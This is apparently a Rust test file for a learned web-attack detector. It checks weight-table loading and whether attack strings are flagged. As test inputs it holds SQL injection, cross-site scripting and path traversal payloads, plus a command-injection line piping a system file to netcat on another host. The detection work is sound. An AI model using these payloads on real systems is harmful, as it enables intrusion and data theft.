use super::*;

fn model() -> Model {
    Model::new().unwrap()
}

#[test]
fn the_table_is_read_and_written_alike() {
    let weights = Weights::from_bytes(TABLE).unwrap();
    assert_eq!(weights.to_bytes(), TABLE);
    assert!(TABLE.len() <= 256 * 1024);
    assert!(weights.table.iter().flatten().any(|weight| *weight != 0));
}

#[test]
fn what_is_no_table_is_refused() {
    assert!(Weights::from_bytes(b"").is_none());
    assert!(Weights::from_bytes(&TABLE[..TABLE.len() - 1]).is_none());
    let mut longer = TABLE.to_vec();
    longer.push(0);
    assert!(Weights::from_bytes(&longer).is_none());
    let mut other = TABLE.to_vec();
    other[0] ^= 1;
    assert!(Weights::from_bytes(&other).is_none());
}

/// Attacks in words that no rule covers.
#[test]
fn attacks_are_told_from_text() {
    let model = model();
    for (attack, id) in [
        ("' or elt(3=3,5) rlike 'x", "learned-query"),
        ("<blink onwheel=confirm(7)>", "learned-markup"),
        ("../../../../etc/some.conf", "learned-path"),
        ("; cat /etc/issue | nc 10.0.0.1 99", "learned-command"),
    ] {
        let (rule, text) = model
            .judge(attack.as_bytes())
            .unwrap_or_else(|| panic!("{attack}"));
        assert_eq!(rule.id, id, "{attack}");
        assert!(!text.is_empty());
    }
    for text in [
        "the cat sat on the mat",
        "o'brien and sons",
        "1 < 2",
        "a=1&b=2",
    ] {
        assert!(model.judge(text.as_bytes()).is_none(), "{text}");
    }
}

/// An attack in the middle of a long text is found there, although it neither begins nor ends the
/// value.
#[test]
fn the_worst_window_counts() {
    let model = model();
    let attack = "' union select password from users where '1'='1";
    let text = "we met in the old house by the river and talked about the garden for a while. ";
    assert!(model.judge(text.repeat(100).as_bytes()).is_none());
    let hidden = format!("{}{attack}{}", text.repeat(50), text.repeat(50));
    let (rule, shown) = model.judge(hidden.as_bytes()).unwrap();
    assert_eq!(rule.id, "learned-query");
    assert!(rule.severity >= Severity::High);
    assert!(String::from_utf8_lossy(shown).contains("union"));
}

#[test]
fn repetition_adds_nothing() {
    let model = model();
    let once = model.opinion(b"/div/div/div/div/div").scores;
    let often = model.opinion("/div".repeat(500).as_bytes()).scores;
    for (once, often) in once.iter().zip(often) {
        assert!(often - once < 32, "{once} {often}");
    }
}

/// Opinions do not add up: the strongest one of a request counts, in any order.
#[test]
fn the_strongest_opinion_of_a_request_counts() {
    use crate::payload::{Field, Findings};
    let field = Field {
        carrier: Carrier::FormValue,
        name: b"a",
        value: b"x",
    };
    let (medium, critical) = (&QUERY[0], &MARKUP[2]);
    for order in [[medium, critical], [critical, medium]] {
        let mut findings = Findings::new();
        for rule in order {
            findings.add_opinion(rule, field, b"x");
        }
        assert_eq!(findings.total(), critical.severity.points());
        assert_eq!(findings.iter().count(), 1);
    }
}
